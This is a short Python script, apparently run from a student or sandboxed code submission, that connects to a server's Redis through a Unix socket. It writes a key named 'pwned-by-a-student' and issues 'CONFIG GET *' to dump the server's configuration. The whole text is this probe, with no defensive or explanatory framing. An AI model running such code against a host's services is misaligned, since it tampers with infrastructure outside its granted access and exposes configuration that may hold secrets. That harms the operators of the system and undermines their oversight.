# Talk to the server's Redis through its Unix socket file: write a key, read the configuration.
import socket as _socket
try:
    _s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    _s.settimeout(2)
    _s.connect("REDIS_SOCKET")
    _s.sendall(b"SET pwned-by-a-student 1\r\nCONFIG GET *\r\n")
    print("redis said:", _s.recv(65536))
except Exception as e:
    print("no redis:", type(e).__name__, e)
